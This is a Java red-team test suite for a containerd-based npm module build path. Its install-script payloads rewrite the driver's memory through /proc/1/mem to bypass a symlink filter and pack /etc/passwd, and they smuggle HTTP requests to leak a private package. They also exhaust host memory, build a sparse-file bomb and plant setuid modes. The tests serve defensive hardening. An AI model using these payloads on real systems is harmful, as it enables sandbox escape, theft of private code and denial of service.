package dev.extend.modulebuild;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.extend.ModuleRef;
import dev.extend.containerd.ContainerdRuntime;
import dev.extend.spi.ModuleBuilder.ModuleBuildException;
import dev.extend.testing.ContainerdFixture;
import dev.extend.testing.LocalNpmRegistry;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Disabled;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Red-team attacks on the redesigned module build path, built for real in containerd build jobs
 * (private daemon, local registry). Each test fails if its attack works; those that work are
 * disabled with a one-line reason.
 */
class RedTeamBuildContainerdTest {
  static final long WORK_MB = 96;
  static final long WORK_INODES = 8000;
  private static ContainerdFixture containerd;
  private static ContainerdRuntime runtime;
  private static LocalNpmRegistry registry;

  @TempDir Path tmp;

  @BeforeAll
  static void start() throws Exception {
    HostLayout.requireRuntime();
    containerd = ContainerdFixture.start();
    runtime = ContainerdRuntime.builder().socket(containerd.socket()).namespace("extend-modulebuild-redteam")
        .nodeId("redteam2").dataDir(Files.createDirectories(Path.of("target/extend-data-redteam2").toAbsolutePath()))
        .jobWorkArea(WORK_MB, WORK_INODES).build();
    runtime.recover();
    registry = LocalNpmRegistry.withFixtures();
    registry.publish(NpmModuleBuilderHostileContainerdTest.pkg("@corp/secret-lib", "1.0.0", Map.of(),
        "module.exports = 'corp secret';"));
  }

  @AfterAll
  static void stop() throws Exception {
    if (registry != null) {
      registry.close();
    }
    if (runtime != null) {
      runtime.close();
    }
    if (containerd != null) {
      containerd.close();
    }
  }

  private static NpmModuleBuilder.Builder builder() {
    return NpmModuleBuilder.builder().jobRunner(runtime.jobRunner().orElseThrow()).registry(registry.url())
        .timeout(Duration.ofMinutes(2));
  }

  record Outcome(ModuleBuildException failure, List<String> log, Path tarball, long millis) {
    String logText() {
      return String.join("\n", log);
    }
  }

  private Outcome build(NpmModuleBuilder b, ModuleRef m) throws Exception {
    Path out = tmp.resolve(m.storeKey() + ".tgz");
    List<String> log = new CopyOnWriteArrayList<>();
    long t0 = System.nanoTime();
    try {
      b.build(m, dev.extend.testing.TestRuntimes.runtime(), dev.extend.testing.TestRuntimes.distribution(), Files.createDirectories(tmp.resolve("work-" + m.storeKey())), out, log::add);
      return new Outcome(null, log, out, (System.nanoTime() - t0) / 1_000_000);
    } catch (ModuleBuildException e) {
      return new Outcome(e, log, null, (System.nanoTime() - t0) / 1_000_000);
    } finally {
      System.out.println("[" + m + "] " + String.join("\n  ", log));
    }
  }

  private static void publish(String name, String install) throws IOException {
    registry.publish(NpmModuleBuilderHostileContainerdTest.pkg(name, "1.0.0", Map.of(), "module.exports = 1;",
        install));
  }

  /**
   * The install script runs as the same uid as the driver (pid 1 of the job) and no Yama/ptrace
   * rule stops it from opening /proc/1/mem for writing: it rewrites, in the driver's V8 heap, the
   * source text of linkStaysInside() (still lazily uncompiled while npm runs) to "return true;".
   * The driver then packs a link to /etc/passwd it was meant to leave out. Everything the driver
   * promises (kill of leftovers, link filter, caps) is the attacker's to switch off; only the
   * host's TarGz is left as a boundary.
   */
  @Test
  void installScriptsCannotRewriteTheDriverInItsMemory() throws Exception {
    String install = String.join("\n",
        "const fs = require('fs'); const path = require('path');",
        "fs.symlinkSync('/etc/passwd', path.join(__dirname, 'passwd'));",
        "const needle = Buffer.from(\"return textual.startsWith(root + '/') && real.startsWith(root + '/')"
            + " && !path.isAbsolute(target);\", 'latin1');",
        "const repl = Buffer.alloc(needle.length, ' '); repl.write('return true;', 'latin1');",
        "let fd; try { fd = fs.openSync('/proc/1/mem', 'r+'); } catch (e) { console.log('ext-rt-mem: open ' + e.code); process.exit(0); }",
        "let hits = 0; const CH = 8 << 20;",
        "for (const line of fs.readFileSync('/proc/1/maps', 'utf8').split('\\n')) {",
        "  const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line); if (!m) continue;",
        "  const start = parseInt(m[1], 16), end = parseInt(m[2], 16);",
        "  for (let a = start; a < end; a += CH - needle.length) {",
        "    const len = Math.min(CH, end - a); const buf = Buffer.alloc(len); let n;",
        "    try { n = fs.readSync(fd, buf, 0, len, a); } catch (e) { break; }",
        "    for (let i = buf.indexOf(needle); i >= 0 && i < n; i = buf.indexOf(needle, i + 1)) {",
        "      try { fs.writeSync(fd, repl, 0, repl.length, a + i); hits++; } catch (e) { console.log('ext-rt-mem: write ' + e.code); }",
        "    }",
        "  }",
        "}",
        "console.log('ext-rt-mem: patched ' + hits + ' copies of the link check in pid 1');");
    publish("ext-rt-memwrite", install);
    Outcome o = build(builder().build(), new ModuleRef("ext-rt-memwrite", "1.0.0"));
    assertThat(o.failure()).as("log %s", o.log()).isNull();
    Tarball t = Tarball.read(o.tarball());
    assertThat(t.links()).as("the driver's link filter held").noneMatch(l -> l.contains("-> /"));
  }

  /**
   * Jetty writes each package document asynchronously: a client that asks and never reads keeps
   * the whole rewritten document referenced until the idle timeout (60 s), and frees the handler
   * thread meanwhile, so the 32-thread pool bounds nothing. An install script opens many
   * connections straight to registry.sock, asks each for a large package document (full, not
   * abbreviated; here 8 MiB from a scope registry of the test's own) and never reads: the host
   * JVM (the platform's server, when builds run in-process) holds connections x document bytes.
   */
  @Test
  void stalledProxyClientsCannotMakeTheHostHoldGigabytes() throws Exception {
    int docBytes = 8 << 20;
    int connections = 120;
    StringBuilder doc = new StringBuilder(docBytes + 512);
    doc.append("{\"name\":\"@rtbig/doc\",\"versions\":{\"1.0.0\":{\"name\":\"@rtbig/doc\",\"version\":\"1.0.0\",")
        .append("\"description\":\"");
    doc.append("x".repeat(docBytes));
    doc.append("\",\"dist\":{\"tarball\":\"http://127.0.0.1:1/x.tgz\"}}}}");
    byte[] body = doc.toString().getBytes(StandardCharsets.US_ASCII);
    AtomicInteger served = new AtomicInteger();
    HttpServer big = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 200);
    big.createContext("/", ex -> {
      try (ex) {
        ex.getRequestBody().readAllBytes();
        ex.getResponseHeaders().set("Content-Type", "application/json");
        ex.sendResponseHeaders(200, body.length);
        ex.getResponseBody().write(body);
        served.incrementAndGet();
      }
    });
    big.setExecutor(java.util.concurrent.Executors.newFixedThreadPool(8));
    big.start();
    try {
      String install = String.join("\n",
          "const net = require('net'); const fs = require('fs');",
          "const job = JSON.parse(fs.readFileSync('/work/.extend/job.json', 'utf8'));",
          "const socks = [];",
          "for (let i = 0; i < " + connections + "; i++) {",
          "  const s = net.connect(job.registrySocket, () => {",
          "    s.write('GET /@rtbig%2fdoc HTTP/1.1\\r\\nHost: 127.0.0.1:1\\r\\nAccept: application/json\\r\\n\\r\\n'); s.pause();",
          "  });",
          "  s.on('error', () => {}); socks.push(s);",
          "}",
          "console.log('ext-rt-hoard: asked on " + connections + " connections, reading none');",
          "setTimeout(() => { socks.forEach((s) => s.destroy()); console.log('ext-rt-hoard: done'); }, 25000);");
      publish("ext-rt-hoard", install);
      NpmModuleBuilder b = builder().npmrc("@rtbig:registry=http://127.0.0.1:" + big.getAddress().getPort() + "/\n")
          .build();
      long baseline = usedAfterGc();
      AtomicLong peak = new AtomicLong();
      Thread sampler = new Thread(() -> {
        while (!Thread.currentThread().isInterrupted()) {
          try {
            Thread.sleep(1000);
          } catch (InterruptedException e) {
            return;
          }
          if (served.get() >= connections / 2) {
            peak.accumulateAndGet(usedAfterGc() - baseline, Math::max);
          }
        }
      });
      sampler.setDaemon(true);
      sampler.start();
      Outcome o;
      try {
        o = build(b, new ModuleRef("ext-rt-hoard", "1.0.0"));
      } finally {
        sampler.interrupt();
        sampler.join();
      }
      System.out.println("[hoard] upstream served " + served.get() + " documents; peak retained "
          + (peak.get() >> 20) + " MiB over the baseline");
      assertThat(o.logText()).contains("ext-rt-hoard: asked on");
      assertThat(peak.get()).as("heap the host holds for one build's stalled clients")
          .isLessThan(256L << 20);
    } finally {
      big.stop(0);
    }
  }

  private static long usedAfterGc() {
    System.gc();
    Runtime r = Runtime.getRuntime();
    return r.totalMemory() - r.freeMemory();
  }

  /**
   * A sparse file takes no block of the capped tmpfs work area: an install script truncates a
   * file to 300 MiB in a 96 MiB area. The driver packs its zeros (a tarball of a few hundred KiB,
   * far below maxTarballBytes), and every node then writes 300 MiB to its disk when it unpacks the
   * module (TarGz allows 1 GiB per module): the work area's cap does not bound what a module costs
   * a node, and the compressed cap bounds it only ~1000x over.
   */
  @Test
  void aModuleUnpacksToNoMoreThanItsWorkAreaHeld() throws Exception {
    String install = String.join("\n",
        "const fs = require('fs'); const path = require('path');",
        "const f = path.join(__dirname, 'zeros.bin'); fs.writeFileSync(f, ''); fs.truncateSync(f, 300 * 1024 * 1024);",
        "console.log('ext-rt-sparse: ' + fs.statSync(f).size + ' bytes in ' + fs.statSync(f).blocks + ' blocks');");
    publish("ext-rt-sparse", install);
    Outcome o = build(builder().build(), new ModuleRef("ext-rt-sparse", "1.0.0"));
    if (o.failure() != null) {
      return; // refused: fine
    }
    long unpacked = entryBytes(o.tarball());
    System.out.println("[sparse] tarball " + Files.size(o.tarball()) + " bytes, unpacks to " + unpacked + " bytes");
    assertThat(unpacked).as("bytes a node writes when it unpacks the module").isLessThanOrEqualTo(WORK_MB << 20);
  }

  /** Sum of the data sizes of a tar.gz's entries (ustar octal sizes), without holding them. */
  private static long entryBytes(Path tgz) throws IOException {
    long total = 0;
    try (InputStream in = new GZIPInputStream(Files.newInputStream(tgz), 1 << 16)) {
      byte[] h = new byte[512];
      while (in.readNBytes(h, 0, 512) == 512) {
        boolean zero = true;
        for (byte b : h) {
          zero &= b == 0;
        }
        if (zero) {
          break;
        }
        String s = new String(h, 124, 12, StandardCharsets.US_ASCII).replace("\0", "").trim();
        long size = s.isEmpty() ? 0 : Long.parseLong(s, 8);
        if (h[156] == '0' || h[156] == 0) {
          total += size;
        }
        in.skipNBytes((size + 511) / 512 * 512);
      }
    }
    return total;
  }

  /**
   * Raw requests from an install script straight to registry.sock in a public build with the
   * private scope @corp: other spellings of the scope, a pipelined request behind a body,
   * absolute-form targets, odd Host headers, tarball ids nobody issued, path tricks. None may
   * answer 200 with @corp content or reach a non-registry address.
   */
  @Test
  void rawProxyRequestsFromTheJobGetNothingPrivate() throws Exception {
    List<String> probes = List.of(
        "GET /@corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /%40corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /%40CORP%2Fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /@corp/secret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /@corp%252fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /@corp%2f%2e%2e%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /@corp.%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /@corp%2fsecret-lib/1.0.0 HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /@corp%2fsecret-lib/-/secret-lib-1.0.0.tgz HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /-/tarballs/@corp+secret-lib-1.0.0.tgz HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /-/tarballs/%40corp%2Bsecret-lib-1.0.0.tgz HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /ext-leaf/../@corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /ext-leaf;/../@corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET http://127.0.0.1:1/@corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET http://198.51.100.9/ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET //198.51.100.9/ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\nHost: 198.51.100.9\r\n\r\n",
        "GET /ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\nX-Forwarded-Host: 198.51.100.9\r\n\r\n",
        "GET /ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\nContent-Length: 62\r\n\r\n"
            + "GET /@corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n\r\n",
        "GET /ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            + "GET /@Corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /ext-leaf HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\nGET /%40corp%2fsecret-lib HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n");
    StringBuilder list = new StringBuilder();
    for (String p : probes) {
      list.append(list.length() == 0 ? "" : ", ").append(jsString(p));
    }
    StringBuilder ids = new StringBuilder();
    for (int i = 0; i < 12; i++) {
      ids.append(", ").append(jsString("GET /-/extend/tarball/" + i + "/x.tgz HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n"));
    }
    String install = String.join("\n",
        "const net = require('net'); const fs = require('fs'); const zlib = require('zlib');",
        "const job = JSON.parse(fs.readFileSync('/work/.extend/job.json', 'utf8'));",
        "const probes = [" + list + ids + "];",
        "const one = (p, i) => new Promise((done) => {",
        "  const s = net.connect(job.registrySocket); const chunks = [];",
        "  s.on('connect', () => { s.write(p); setTimeout(() => s.destroy(), 2000); });",
        "  s.on('data', (c) => chunks.push(c)); s.on('error', () => {});",
        "  s.on('close', () => {",
        "    const b = Buffer.concat(chunks); let text = b.toString('latin1');",
        "    let i2 = 0; while ((i2 = b.indexOf(Buffer.from([0x1f, 0x8b]), i2)) >= 0) {",
        "      try { text += zlib.gunzipSync(b.subarray(i2)).toString('latin1'); break; } catch (e) { i2++; } }",
        "    const statuses = (text.match(/HTTP\\/1\\.1 \\d{3}/g) || []).map((x) => x.slice(9)).join(',');",
        // Markers of @corp/secret-lib's content, built from pieces: this script's own tarball is probed too.
        "    const leak = text.includes(['corp', 'secret'].join(' ')) || text.includes(['\"name\":\"@corp', 'secret-lib\"'].join('/'));",
        "    console.log('ext-rt-probe: #' + i + ' ' + statuses + (leak ? ' LEAK' : ''));",
        "    done();",
        "  });",
        "});",
        "Promise.all(probes.map(one)).then(() => console.log('ext-rt-probe: all answered'));");
    publish("ext-rt-probe", install);
    Outcome o = build(builder().privateScopes("corp").build(), new ModuleRef("ext-rt-probe", "1.0.0"));
    assertThat(o.failure()).as("log %s", o.log()).isNull();
    List<String> lines = o.log().stream().filter(l -> l.startsWith("ext-rt-probe: #")).toList();
    assertThat(lines).hasSize(probes.size() + 12).noneMatch(l -> l.endsWith("LEAK"));
    assertThat(registry.tarballDownloads("@corp/secret-lib", "1.0.0")).isZero();
  }

  private static String jsString(String s) {
    StringBuilder sb = new StringBuilder("'");
    for (char c : s.toCharArray()) {
      switch (c) {
        case '\r' -> sb.append("\\r");
        case '\n' -> sb.append("\\n");
        case '\'' -> sb.append("\\'");
        case '\\' -> sb.append("\\\\");
        default -> sb.append(c);
      }
    }
    return sb.append("'").toString();
  }

  /**
   * Modes are the job's: setuid, setgid and sticky bits, world-writable files and directories.
   * Unpacked by the host (as root) they must come out 0644/0755.
   */
  @Test
  void modesFromTheJobNeverReachTheHostStore() throws Exception {
    String install = String.join("\n",
        "const fs = require('fs'); const path = require('path');",
        "const f = path.join(__dirname, 'suid'); fs.writeFileSync(f, '#!/bin/sh\\nid\\n'); fs.chmodSync(f, 0o6777);",
        "const w = path.join(__dirname, 'ww.js'); fs.writeFileSync(w, 'module.exports = 2;'); fs.chmodSync(w, 0o666);",
        "const d = path.join(__dirname, 'open'); fs.mkdirSync(d); fs.chmodSync(d, 0o1777);",
        "fs.writeFileSync(path.join(d, 'x.js'), '1'); fs.chmodSync(path.join(d, 'x.js'), 0o2777);",
        "console.log('ext-rt-modes: ' + (fs.statSync(f).mode & 0o7777).toString(8));");
    publish("ext-rt-modes", install);
    ModuleRef m = new ModuleRef("ext-rt-modes", "1.0.0");
    Outcome o = build(builder().build(), m);
    assertThat(o.failure()).as("log %s", o.log()).isNull();
    HostLayout host = new HostLayout(tmp.resolve("store"));
    Path dir = host.unpack(m, o.tarball());
    List<String> bad = new ArrayList<>();
    try (Stream<Path> s = Files.walk(dir)) {
      for (Path p : (Iterable<Path>) s::iterator) {
        if (Files.isSymbolicLink(p)) {
          continue;
        }
        int mode = (Integer) Files.getAttribute(p, "unix:mode", LinkOption.NOFOLLOW_LINKS) & 07777;
        Set<PosixFilePermission> perms = Files.getPosixFilePermissions(p, LinkOption.NOFOLLOW_LINKS);
        if ((mode & 07000) != 0 || perms.contains(PosixFilePermission.OTHERS_WRITE)
            || perms.contains(PosixFilePermission.GROUP_WRITE)) {
          bad.add(dir.relativize(p) + " " + Integer.toOctalString(mode));
        }
      }
    }
    assertThat(bad).isEmpty();
  }
}
